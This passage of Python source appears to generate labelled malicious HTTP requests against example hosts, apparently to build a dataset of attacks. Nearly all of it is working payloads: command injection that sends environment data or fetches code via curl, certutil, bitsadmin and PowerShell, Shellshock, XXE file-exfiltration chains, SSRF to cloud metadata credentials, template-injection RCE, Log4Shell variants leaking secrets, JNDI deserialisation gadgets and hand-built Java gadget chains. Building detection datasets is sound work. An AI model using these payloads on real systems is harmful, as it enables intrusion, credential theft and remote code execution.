    ("cmd-curl-env", "$(curl -s http://{OOB}/$(env|base64 -w0|cut -c1-60))"),
]

RCE_WIN = [
    ("cmd-win-ping", "& ping -n 11 127.0.0.1 &"),
    ("cmd-win-timeout", "| timeout /t 7 /nobreak"),
    ("cmd-win-nslookup", "& nslookup %USERNAME%.{OOB} &"),
    ("cmd-win-certutil", "| certutil -urlcache -split -f http://{OOB}/a.txt %TEMP%\\a.txt"),
    ("cmd-ps-start-sleep", "; powershell -c Start-Sleep -s 5"),
    ("cmd-ps-resolve-dns", "& powershell -nop -c \"Resolve-DnsName $env:COMPUTERNAME.{OOB}\""),
    ("cmd-ps-iwr", "| powershell -w hidden -c \"iwr http://{OOB}/?u=$env:USERNAME\""),
    ("cmd-ps-enc", "& powershell -nop -enc "),
    ("cmd-win-bitsadmin", "& bitsadmin /transfer j http://{OOB}/x %TEMP%\\x"),
]


def _rce_win_spots():
    return [
        lambda p, s: emit(A, s, "rce", "POST", "/Tools/Diagnostics.aspx", "iis.example.com", [_sess()],
                          form([("__VIEWSTATE", b64(rstr(40))), ("ctl00$body$txtHost", "192.0.2.15" + p),
                                ("ctl00$body$btnPing", "Run")]), "application/x-www-form-urlencoded"),
        lambda p, s: emit(A, s, "rce", "POST", "/api/printers/test", "print.example.net",
                          [["Authorization", "Bearer " + jwt()]],
                          jdump({"printer": "\\\\prn01\\HP-3F" + p, "pages": 1}), "application/json"),
        lambda p, s: emit(A, s, "rce", "GET", "/reports/generate.ashx?name=" + q("sales" + p) + "&fmt=xlsx",
                          "intranet.example.org", [_sess()]),
    ]


def _rce_code_injection():
    """Blind code injection into interpreters (eval-style) and Shellshock."""
    o = oast
    emit(A, "shellshock-sleep", "rce", "GET", "/cgi-bin/test.cgi", "legacy.example.com",
         [["User-Agent", "() { :; }; /bin/sleep 5"]])
    emit(A, "shellshock-nslookup", "rce", "GET", "/cgi-bin/admin.cgi", "legacy.example.net",
         [["User-Agent", "Mozilla/5.0"], ["Referer", "() { :;}; /usr/bin/nslookup $(whoami)." + o()]])
    emit(A, "shellshock-curl-cookie", "rce", "GET", "/cgi-bin/login.sh", "legacy.example.org",
         [["Cookie", "() { _; } >_[$($())] { /usr/bin/curl http://" + o() + "/ss; }"]])
    emit(A, "node-eval-sleep", "rce", "POST", "/api/calc", "calc.example.com", [],
         jdump({"expression": "require('child_process').execSync('sleep 5')"}), "application/json")
    emit(A, "node-eval-dns", "rce", "GET", "/api/filter?where=" +
         q("this.a||process.mainModule.require('dns').lookup('" + o() + "',()=>{})"), "api.example.org")
    emit(A, "python-eval-dns", "rce", "POST", "/calculate", "quote.example.net", [],
         form([("formula", "__import__('os').system('nslookup " + o() + "')"), ("currency", "EUR")]),
         "application/x-www-form-urlencoded")
    emit(A, "python-eval-sleep", "rce", "GET", "/api/v1/metrics/eval?expr=" +
         q("__import__('time').sleep(5)"), "metrics.example.com")
    emit(A, "ruby-backtick-sleep", "rce", "POST", "/widgets/preview", "rails.example.org", [_sess()],
         form([("widget[title]", "#{`sleep 5`}"), ("commit", "Preview")]), "application/x-www-form-urlencoded")
    emit(A, "perl-open-pipe", "rce", "GET", "/cgi-bin/view.pl?file=" + q("|nslookup " + o() + "|"),
         "legacy.example.com")


def rce_attacks():
    spots = _rce_unix_spots()
    for i, (slug, payload) in enumerate(RCE_UNIX):
        spots[(i * 3) % len(spots)](oob(payload), slug)
    spots = _rce_win_spots()
    for i, (slug, payload) in enumerate(RCE_WIN):
        p = oob(payload)
        if slug == "cmd-ps-enc":
            p += _ps_enc("IEX (New-Object Net.WebClient).DownloadString('http://%s/a.ps1')" % oast())
        spots[i % len(spots)](p, slug)
    _rce_code_injection()


LOCAL_DTD_LINUX = (
    '<?xml version="1.0" ?>\n'
    '<!DOCTYPE message [\n'
    '  <!ENTITY % local_dtd SYSTEM "file:///usr/share/yelp/dtd/docbookx.dtd">\n'
    '  <!ENTITY % ISOamso \'\n'
    '    <!ENTITY &#x25; file SYSTEM "file:///etc/passwd">\n'
    '    <!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">\n'
    '    &#x25;eval;\n'
    '    &#x25;error;\n'
    '  \'>\n'
    '  %local_dtd;\n'
    ']>\n'
    '<message>hello</message>'
)

LOCAL_DTD_FONTCONFIG = (
    '<?xml version="1.0"?>\n'
    '<!DOCTYPE config [\n'
    '<!ENTITY % local_dtd SYSTEM "file:///usr/share/xml/fontconfig/fonts.dtd">\n'
    '<!ENTITY % constant \'aaa)>\n'
    '  <!ENTITY &#x25; file SYSTEM "file:///etc/hostname">\n'
    '  <!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///x/&#x25;file;&#x27;>">\n'
    '  &#x25;eval;&#x25;error;\n'
    '  <!ELEMENT aa (bb\'>\n'
    '%local_dtd;\n'
    ']>\n'
    '<config><name>test</name></config>'
)

LOCAL_DTD_WINDOWS = (
    '<?xml version="1.0" encoding="utf-8"?>\n'
    '<!DOCTYPE doc [\n'
    '<!ENTITY % local_dtd SYSTEM "file:///C:/Windows/System32/wbem/xml/cim20.dtd">\n'
    '<!ENTITY % SuperClass \'>\n'
    '  <!ENTITY &#x25; file SYSTEM "file:///C:/Windows/win.ini">\n'
    '  <!ENTITY &#x25; eval "<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///nonexistent/&#x25;file;&#x27;>">\n'
    '  &#x25;eval;&#x25;error;\n'
    '<!ENTITY test "test"\'>\n'
    '%local_dtd;\n'
    ']>\n'
    '<doc><id>1</id></doc>'
)


def xxe_attacks():
    o = oast
    x = [
        ("xxe-oob-param-entity", '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://{OOB}/evil.dtd"> %xxe;]>\n<stockCheck><productId>1</productId><storeId>1</storeId></stockCheck>'),
        ("xxe-oob-external-dtd", '<?xml version="1.0"?>\n<!DOCTYPE order SYSTEM "http://{OOB}/order.dtd">\n<order><sku>A-100</sku><qty>1</qty></order>'),
        ("xxe-oob-dns-entity", '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY % d SYSTEM "http://xxe.{OOB}/"> %d;]>\n<r/>'),
        ("xxe-oob-exfil-chain", '<?xml version="1.0"?>\n<!DOCTYPE data [\n<!ENTITY % file SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">\n<!ENTITY % dtd SYSTEM "http://{OOB}/combine.dtd">\n%dtd;\n%send;\n]>\n<data>x</data>'),
        ("xxe-oob-ftp", '<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY % asd SYSTEM "ftp://{OOB}:2121/x.dtd"> %asd; %c;]>\n<a>&rrr;</a>'),
        ("xxe-oob-public-id", '<?xml version="1.0"?>\n<!DOCTYPE invoice PUBLIC "-//A//B//EN" "http://{OOB}/i.dtd">\n<invoice><total>10</total></invoice>'),
        ("xxe-oob-jar", '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "jar:http://{OOB}/x.zip!/a.txt">]>\n<r>&xxe;</r>'),
        ("xxe-oob-netdoc", '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY % a SYSTEM "netdoc://{OOB}/x.dtd"> %a;]>\n<r/>'),
    ]
    spots = [
        ("POST", "/product/stock", "shop.example.com", "application/xml"),
        ("POST", "/api/orders/import", "orders.example.net", "application/xml"),
        ("POST", "/ws/InvoiceService", "billing.example.org", "text/xml; charset=utf-8"),
        ("POST", "/xmlrpc.php", "blog.example.com", "text/xml"),
        ("POST", "/api/v1/feeds", "news.example.net", "application/xml"),
        ("PUT", "/api/config/import", "router.example.com", "application/xml"),
        ("POST", "/api/v2/users", "api.example.org", "application/xml"),  # JSON API that also parses XML
        ("POST", "/sitemap/ping", "seo.example.com", "application/rss+xml"),
    ]
    for i, (slug, tmpl) in enumerate(x):
        m, u, h, ct = spots[i % len(spots)]
        body = oob(tmpl)
        emit(A, slug, "xxe", m, u, h, [_sess()], body, ct)
    emit(A, "xxe-local-dtd-docbook", "xxe", "POST", "/api/messages", "chat.example.com", [], LOCAL_DTD_LINUX, "application/xml")
    emit(A, "xxe-local-dtd-fontconfig", "xxe", "POST", "/config/upload", "cms.example.org", [_sess()], LOCAL_DTD_FONTCONFIG, "text/xml")
    emit(A, "xxe-local-dtd-cim20", "xxe", "POST", "/Services/Import.svc", "erp.example.net",
         [["SOAPAction", '"urn:Import"']], LOCAL_DTD_WINDOWS, "text/xml; charset=utf-8")
    emit(A, "xxe-xinclude", "xxe", "POST", "/product/stock", "shop.example.net", [],
         "productId=" + qp('<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="http://%s/x"/></foo>' % o()) + "&storeId=1",
         "application/x-www-form-urlencoded")
    svg = ('<?xml version="1.0" standalone="yes"?>\n<!DOCTYPE svg [<!ENTITY % r SYSTEM "http://' + o() +
           '/svg.dtd"> %r;]>\n<svg width="128" height="128" xmlns="http://www.w3.org/2000/svg"><text x="0" y="16">x</text></svg>')
    b, ct = multipart([("caption", "profile"), ("avatar", svg, "avatar.svg", "image/svg+xml")])
    emit(A, "xxe-svg-upload", "xxe", "POST", "/account/avatar", "social.example.com", [_sess()], b, ct)
    saml = ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://' + o() + '/saml.dtd"> %x;]>'
            '<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_' + rstr(20, HEX) +
            '" Version="2.0"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://idp.example.org</saml:Issuer></samlp:Response>')
    emit(A, "xxe-saml-response", "xxe", "POST", "/saml/acs", "sso.example.com", [],
         form([("SAMLResponse", b64(saml)), ("RelayState", "/dashboard")]), "application/x-www-form-urlencoded")
    docx_rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE x [<!ENTITY % d SYSTEM "http://' + o() +
                 '/docx.dtd"> %d;]>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
    b, ct = multipart([("doc", docx_rels, "[Content_Types].xml", "application/xml")])
    emit(A, "xxe-ooxml-part", "xxe", "POST", "/api/documents/validate", "docs.example.net", [], b, ct)
    soap = ('<?xml version="1.0"?>\n<!DOCTYPE soap:Envelope [<!ENTITY % p SYSTEM "http://' + o() + '/s.dtd"> %p;]>\n'
            '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><getBalance>'
            '<account>12345</account></getBalance></soap:Body></soap:Envelope>')
    emit(A, "xxe-soap-param-entity", "xxe", "POST", "/axis2/services/AccountService", "bank.example.org",
         [["SOAPAction", "urn:getBalance"]], soap, "text/xml")
    # UTF-16 encoded document: the exact bytes matter, so send it raw
    doc16 = ('<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE r [<!ENTITY % x SYSTEM "http://' + o() +
             '/u16.dtd"> %x;]>\n<r>1</r>').encode("utf-16")
    raw = ("POST /api/orders/import HTTP/1.1\r\nHost: orders.example.com\r\nUser-Agent: python-requests/2.31.0\r\n"
           "Content-Type: application/xml; charset=utf-16\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % len(doc16)).encode() + doc16
    emit_raw(A, "xxe-utf16-oob", "xxe", raw)


def ssrf_attacks():
    o = oast
    meta_targets = [
        ("ssrf-aws-imds", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
        ("ssrf-aws-imds-userdata", "http://169.254.169.254/latest/user-data"),
        ("ssrf-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
        ("ssrf-azure-imds", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
        ("ssrf-alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
        ("ssrf-oracle-metadata", "http://192.0.0.192/latest/meta-data/"),
        ("ssrf-decimal-ip", "http://2852039166/latest/meta-data/"),
        ("ssrf-hex-ip", "http://0x7f000001:8080/actuator/env"),
        ("ssrf-ipv6-mapped", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
        ("ssrf-at-confusion", "http://www.example.com@169.254.169.254/latest/meta-data/"),
        ("ssrf-nip-io", "http://169.254.169.254.nip.io/latest/meta-data/"),
        ("ssrf-rebinding", "http://7f000001.a9fea9fe.rbndr.us/latest/meta-data/"),
        ("ssrf-rebinding", "http://make-169-254-169-254-rebind-127-0-0-1-rr.1u.ms/"),
        ("ssrf-gopher-redis", "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A%241%0D%0A1%0D%0A%2434%0D%0A%0A%0A%2A/1%20%2A%20%2A%20%2A%20%2A%20sleep%205%0A%0A%0A%0D%0A"),
        ("ssrf-dict-probe", "dict://127.0.0.1:11211/stats"),
        ("ssrf-file-scheme", "file:///proc/self/environ"),
        ("ssrf-docker-api", "http://127.0.0.1:2375/v1.41/containers/json"),
        ("ssrf-kube-api", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
        ("ssrf-consul", "http://10.0.0.12:8500/v1/agent/self"),
        ("ssrf-localhost-admin", "http://localhost:9200/_cat/indices?v"),
    ]
    oast_targets = [
        ("ssrf-oast-callback", "http://{OOB}/"),
        ("ssrf-oast-callback", "https://{OOB}/webhook"),
        ("ssrf-oast-callback", "http://{OOB}/x.png"),
        ("ssrf-requestbin", "https://eo" + "%s.m.pipedream.net/" % rstr(13)),
        ("ssrf-webhook-site", "https://webhook.site/%s" % ruuid()),
        ("ssrf-oast-dns-only", "http://ssrf.{OOB}:443/"),
    ]
    spots = [
        lambda u, s: emit(A, s, "ssrf", "GET", "/api/preview?url=" + q(u), "links.example.com",
                          [["Authorization", "Bearer " + jwt()]]),
        lambda u, s: emit(A, s, "ssrf", "POST", "/api/v1/webhooks", "hooks.example.net",
                          [["Authorization", "Bearer " + jwt()]],
                          jdump({"url": u, "events": ["order.created"], "active": True}), "application/json"),
        lambda u, s: emit(A, s, "ssrf", "POST", "/profile/avatar/fetch", "social.example.org", [_sess()],
                          form([("avatar_url", u), ("crop", "1")]), "application/x-www-form-urlencoded"),
        lambda u, s: emit(A, s, "ssrf", "POST", "/product/stock", "shop.example.com", [],
                          "stockApi=" + q(u), "application/x-www-form-urlencoded"),
        lambda u, s: emit(A, s, "ssrf", "POST", "/api/render/pdf", "docs.example.com", [],
                          jdump({"html": '<html><body><h1>Invoice</h1><img src="%s"><iframe src="%s"></iframe></body></html>' % (u, u)}),
                          "application/json"),
        lambda u, s: emit(A, s, "ssrf", "GET", "/proxy.php?u=" + qlite(u), "legacy.example.net"),
        lambda u, s: emit(A, s, "ssrf", "POST", "/api/import/feed", "news.example.org",
                          [["X-Api-Key", rstr(32)]], jdump({"feed": {"source": {"href": u}}, "interval": 3600}),
                          "application/json"),
        lambda u, s: emit(A, s, "ssrf", "GET", "/oauth/authorize?client_id=app&response_type=code&request_uri=" + q(u),
                          "id.example.com"),
    ]
    allt = meta_targets + oast_targets
    for i, (slug, u) in enumerate(allt):
        spots[i % len(spots)](oob(u), slug)
    # headers that trigger back-end fetches (routing-based / blind SSRF)
    emit(A, "ssrf-host-header-oast", "ssrf", "GET", "/", oast("burp"), [])
    emit(A, "ssrf-absolute-uri", "ssrf", "GET", "http://169.254.169.254/latest/meta-data/", "169.254.169.254", [])
    emit(A, "ssrf-x-forwarded-host-oast", "ssrf", "GET", "/account/password-reset", "www.example.com",
         [["X-Forwarded-Host", o()]])
    emit(A, "ssrf-gcp-metadata-header", "ssrf", "GET", "/fetch?target=" + q("http://169.254.169.254/computeMetadata/v1/project/project-id"),
         "tools.example.net", [["Metadata-Flavor", "Google"]])


SSTI = [
    ("ssti-jinja2-cycler-sleep", "{{ cycler.__init__.__globals__.os.popen('sleep 5').read() }}"),
    ("ssti-jinja2-lipsum-dns", "{{lipsum.__globals__['os'].popen('nslookup {OOB}').read()}}"),
    ("ssti-jinja2-config-curl", "{{config.__class__.__init__.__globals__['os'].popen('curl http://{OOB}/$(id|base64)').read()}}"),
    ("ssti-jinja2-subclasses", "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('sleep 5')}}{% endif %}{% endfor %}"),
    ("ssti-jinja2-attr-filter", "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('sleep 5')|attr('read')()}}"),
    ("ssti-twig-filter-system", "{{['sleep 5']|filter('system')}}"),
    ("ssti-twig-map-exec", "{{['nslookup {OOB}']|map('exec')|join}}"),
    ("ssti-twig-undefined-callback", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('curl {OOB}')}}"),
    ("ssti-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"sleep 5\")}"),
    ("ssti-freemarker-dns", "${\"freemarker.template.utility.Execute\"?new()(\"nslookup {OOB}\")}"),
    ("ssti-velocity-runtime", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('nslookup {OOB}'))$p.waitFor()"),
    ("ssti-spel-thread-sleep", "${T(java.lang.Thread).sleep(5000)}"),
    ("ssti-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('curl http://{OOB}/')}__::.x"),
    ("ssti-erb-sleep", "<%= `sleep 5` %>"),
    ("ssti-erb-system-dns", "<%= system('nslookup {OOB}') %>"),
    ("ssti-ejs-execsync", "<%= global.process.mainModule.require('child_process').execSync('sleep 5') %>"),
    ("ssti-pug-exec", "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process').exec('curl {OOB}')}()}"),
    ("ssti-handlebars-rce", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('sleep 5');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
    ("ssti-smarty-system", "{system('sleep 5')}"),
    ("ssti-smarty-php-tag", "{php}echo `nslookup {OOB}`;{/php}"),
    ("ssti-mako-os", "<% import os; os.system('sleep 5') %>"),
    ("ssti-tornado-import", "{% import os %}{{ os.system('nslookup {OOB}') }}"),
    ("ssti-razor-process", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c nslookup {OOB}\")"),
    ("ssti-nunjucks-constructor", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('sleep 5')\")()}}"),
]


def ssti_attacks():
    spots = [
        lambda p, s: emit(A, s, "ssti", "GET", "/greeting?name=" + q(p), "flask.example.com"),
        lambda p, s: emit(A, s, "ssti", "POST", "/admin/templates/preview", "cms.example.net", [_sess()],
                          form([("subject", "Your order"), ("template", "Hello " + p + ", thanks!")]),
                          "application/x-www-form-urlencoded"),
        lambda p, s: emit(A, s, "ssti", "POST", "/api/v1/notifications/test", "notify.example.org",
                          [["Authorization", "Bearer " + jwt()]],
                          jdump({"channel": "email", "message": {"title": "Alert", "body": p}}), "application/json"),
        lambda p, s: emit(A, s, "ssti", "PUT", "/api/profile", "social.example.com", [_sess()],
                          jdump({"displayName": p, "bio": "hi"}), "application/json"),
        lambda p, s: (lambda b: emit(A, s, "ssti", "POST", "/invoices/custom", "billing.example.net", [_sess()],
                                     b[0], b[1]))(multipart([("footer", p), ("logo", "\x89PNG\r\n", "logo.png", "image/png")])),
        lambda p, s: emit(A, s, "ssti", "GET", "/doc?lang=" + q(p), "spring.example.org"),
    ]
    for i, (slug, payload) in enumerate(SSTI):
        sp = spots[5] if slug.startswith(("ssti-thymeleaf", "ssti-spel")) else spots[i % 5]
        sp(oob(payload), slug)


def _jutf(s):
    b = s.encode("utf-8")
    return struct.pack(">H", len(b)) + b


def java_urldns(host):
    """Java serialization stream of the URLDNS gadget (HashMap -> URL), as ysoserial builds it."""
    ref3 = b"\x71\x00\x7e\x00\x03"
    out = b"\xac\xed\x00\x05"
    out += b"\x73\x72" + _jutf("java.util.HashMap") + bytes.fromhex("0507dac1c31660d1") + b"\x03" + struct.pack(">H", 2)
    out += b"F" + _jutf("loadFactor") + b"I" + _jutf("threshold") + b"\x78\x70"
    out += struct.pack(">f", 0.75) + struct.pack(">i", 12)
    out += b"\x77\x08" + struct.pack(">ii", 16, 1)
    out += b"\x73\x72" + _jutf("java.net.URL") + bytes.fromhex("962537361afce472") + b"\x03" + struct.pack(">H", 7)
    out += b"I" + _jutf("hashCode") + b"I" + _jutf("port") + b"L" + _jutf("authority") + b"\x74" + _jutf("Ljava/lang/String;")
    out += b"L" + _jutf("file") + ref3 + b"L" + _jutf("host") + ref3 + b"L" + _jutf("protocol") + ref3 + b"L" + _jutf("ref") + ref3
    out += b"\x78\x70" + struct.pack(">ii", -1, -1)
    out += b"\x74" + _jutf(host) + b"\x74" + _jutf("") + b"\x71\x00\x7e\x00\x05" + b"\x74" + _jutf("http") + b"\x70\x78"
    out += b"\x74" + _jutf("http://" + host + "/") + b"\x78"
    return out


def java_cc_sleep(ms):
    """ysoserial-style CommonsCollections chain (PriorityQueue / TransformingComparator /
    ChainedTransformer / InvokerTransformer) calling Thread.sleep."""
    out = b"\xac\xed\x00\x05"
    out += b"\x73\x72" + _jutf("java.util.PriorityQueue") + bytes.fromhex("94da30b4fb3f82b1") + b"\x03" + struct.pack(">H", 2)
    out += b"I" + _jutf("size") + b"L" + _jutf("comparator") + b"\x74" + _jutf("Ljava/util/Comparator;") + b"\x78\x70"
    out += struct.pack(">i", 2)
    out += b"\x73\x72" + _jutf("org.apache.commons.collections4.comparators.TransformingComparator") + bytes.fromhex("2ff984f02bb108cc") + b"\x02" + struct.pack(">H", 2)
    out += b"L" + _jutf("decorated") + b"\x71\x00\x7e\x00\x01" + b"L" + _jutf("transformer") + b"\x74" + _jutf("Lorg/apache/commons/collections4/Transformer;") + b"\x78\x70"
    out += b"\x73\x72" + _jutf("org.apache.commons.collections4.functors.ChainedTransformer") + bytes.fromhex("30c797ec287a9704") + b"\x02\x00\x01"
    out += b"[" + _jutf("iTransformers") + b"\x74" + _jutf("[Lorg/apache/commons/collections4/Transformer;") + b"\x78\x70"
    out += b"\x75\x72" + _jutf("[Lorg.apache.commons.collections4.Transformer;") + bytes.fromhex("39813afb08da3fa5") + b"\x02\x00\x00\x78\x70" + struct.pack(">i", 2)
    out += b"\x73\x72" + _jutf("org.apache.commons.collections4.functors.ConstantTransformer") + bytes.fromhex("587690114102b194") + b"\x02\x00\x01"
    out += b"L" + _jutf("iConstant") + b"\x74" + _jutf("Ljava/lang/Object;") + b"\x78\x70"
    out += b"\x76\x72" + _jutf("java.lang.Thread") + bytes.fromhex("0000000000000000") + b"\x00\x00\x00\x78\x70"
    out += b"\x73\x72" + _jutf("org.apache.commons.collections4.functors.InvokerTransformer") + bytes.fromhex("87e8ff6b7b7cce38") + b"\x02\x00\x03"
    out += b"[" + _jutf("iArgs") + b"\x74" + _jutf("[Ljava/lang/Object;") + b"L" + _jutf("iMethodName") + b"\x74" + _jutf("Ljava/lang/String;")
    out += b"[" + _jutf("iParamTypes") + b"\x74" + _jutf("[Ljava/lang/Class;") + b"\x78\x70"
    out += b"\x75\x72" + _jutf("[Ljava.lang.Object;") + bytes.fromhex("90ce589f1073296c") + b"\x02\x00\x00\x78\x70" + struct.pack(">i", 1)
    out += b"\x73\x72" + _jutf("java.lang.Long") + bytes.fromhex("3b8be490cc8f23df") + b"\x02\x00\x01" + b"J" + _jutf("value") + b"\x78\x70" + struct.pack(">q", ms)
    out += b"\x74" + _jutf("sleep")
    out += b"\x75\x72" + _jutf("[Ljava.lang.Class;") + bytes.fromhex("ab16d7aecbcd5a99") + b"\x02\x00\x00\x78\x70" + struct.pack(">i", 1)
    out += b"\x76\x72" + _jutf("long") + bytes.fromhex("0000000000000000") + b"\x00\x00\x00\x78\x70"
    out += b"\x77\x04" + struct.pack(">i", 3) + b"\x74" + _jutf("1") + b"\x74" + _jutf("2") + b"\x78"
    return out


JNDI = [
    ("log4shell-ldap", "${jndi:ldap://{OOB}/a}"),
    ("log4shell-dns", "${jndi:dns://{OOB}/probe}"),
    ("log4shell-rmi", "${jndi:rmi://{OOB}:1099/Object}"),
    ("log4shell-ldaps", "${jndi:ldaps://{OOB}/x}"),
    ("log4shell-lower", "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://{OOB}/a}"),
    ("log4shell-default-value", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://{OOB}/poc}"),
    ("log4shell-env-nan", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//{OOB}/a}"),
    ("log4shell-env-exfil", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.{OOB}/a}"),
    ("log4shell-sys-exfil", "${jndi:dns://${sys:java.version}.${hostName}.{OOB}}"),
    ("log4shell-upper", "${${upper:j}ndi:${upper:l}dap://{OOB}/u}"),
    ("log4shell-k8s-lookup", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://{OOB}/k}"),
    ("log4shell-date-lookup", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://{OOB}/d}"),
    ("log4shell-localhost-bypass", "${jndi:ldap://127.0.0.1#{OOB}:1389/a}"),
    ("log4shell-iiop", "${jndi:iiop://{OOB}/z}"),
    ("log4shell-ctx-exfil", "${jndi:ldap://${ctx:loginId}.${env:USER}.{OOB}/c}"),
    ("log4shell-nested-base64", "${jndi:ldap://{OOB}:1389/Basic/Command/Base64/bnNsb29rdXAgJCh3aG9hbWkp}"),
]


def java_attacks():
    spots = [
        lambda p, s: emit(A, s, "java", "GET", "/", "www.example.com", [["User-Agent", p]]),
        lambda p, s: emit(A, s, "java", "GET", "/api/status", "api.example.net", [["X-Api-Version", p]]),
        lambda p, s: emit(A, s, "java", "GET", "/login", "vpn.example.org", [["Referer", p]]),
        lambda p, s: emit(A, s, "java", "GET", "/portal/home", "portal.example.com", [["X-Forwarded-For", p]]),
        lambda p, s: emit(A, s, "java", "GET", "/search?q=" + q(p), "solr.example.net"),
        lambda p, s: emit(A, s, "java", "POST", "/api/auth/login", "auth.example.org", [],
                          jdump({"username": p, "password": "hunter2"}), "application/json"),
        lambda p, s: emit(A, s, "java", "POST", "/j_security_check", "tomcat.example.com", [],
                          form([("j_username", p), ("j_password", "x")]), "application/x-www-form-urlencoded"),
        lambda p, s: emit(A, s, "java", "GET", "/app/dashboard", "jira.example.net",
                          [["Cookie", "JSESSIONID=" + rstr(32, HEX).upper() + "; lang=" + p]]),
        lambda p, s: emit(A, s, "java", "GET", "/", "mail.example.org",
                          [["Authorization", "Basic " + b64(p + ":password")]]),
        lambda p, s: emit(A, s, "java", "GET", "/" + qlite(p) + "/", "minecraft.example.com"),
        lambda p, s: emit(A, s, "java", "POST", "/api/v1/events", "ingest.example.com",
                          [["X-Api-Key", rstr(32)]],
                          jdump({"events": [{"type": "pageview", "props": {"title": p, "path": "/"}}]}),
                          "application/json"),
    ]
    for i, (slug, payload) in enumerate(JNDI):
        spots[i % len(spots)](oob(payload), slug)
    o = oast
    # Text4Shell (commons-text StringSubstitutor)
    emit(A, "text4shell-script-sleep", "java", "GET", "/api/message?template=" + q("${script:javascript:java.lang.Thread.sleep(5000)}"), "api.example.org")
    emit(A, "text4shell-dns", "java", "POST", "/api/render", "api.example.com", [],
         jdump({"text": "${dns:address|" + o() + "}"}), "application/json")
    emit(A, "text4shell-url", "java", "POST", "/feedback", "www.example.net", [],
         form([("comment", "${url:UTF-8:http://" + o() + "/t4s}")]), "application/x-www-form-urlencoded")
    # fastjson / Jackson polymorphic deserialisation probes
    fj = [
        ("fastjson-inet4-dnslog", {"@type": "java.net.Inet4Address", "val": oast("dnslog")}),
        ("fastjson-inet6-dnslog", {"@type": "java.net.Inet6Address", "val": oast("ceye")}),
        ("fastjson-url-key", None),
        ("fastjson-jdbcrowset-rmi", {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://%s:1099/Exploit" % o(), "autoCommit": True}),
        ("fastjson-class-cache-bypass", {"a": {"@type": "java.lang.Class", "val": "com.sun.rowset.JdbcRowSetImpl"},
                                         "b": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://%s/Exploit" % o(), "autoCommit": True}}),
        ("jackson-array-jdbcrowset", ["com.sun.rowset.JdbcRowSetImpl", {"dataSourceName": "ldap://%s/a" % o(), "autoCommit": True}]),
        ("jackson-logback-jndi", ["ch.qos.logback.core.db.JNDIConnectionSource", {"jndiLocation": "ldap://%s:1389/b" % o()}]),
        ("jackson-class-c3p0", {"@class": "com.mchange.v2.c3p0.JndiRefForwardingDataSource", "jndiName": "rmi://%s/c" % o(), "loginTimeout": 0}),
    ]
    fj_spots = [("/api/user/update", "api.example.com"), ("/v1/orders", "orders.example.org"),
                ("/api/config", "admin.example.net"), ("/rest/profile", "app.example.com")]
    for i, (slug, obj) in enumerate(fj):
        body = ('{{"@type":"java.net.URL","val":"http://%s/"}:"x"}' % o()) if obj is None else jdump(obj)
        u, h = fj_spots[i % len(fj_spots)]
        emit(A, slug, "java", "POST", u, h, [], body, "application/json")
    # Java serialized objects: URLDNS and a sleeping gadget chain
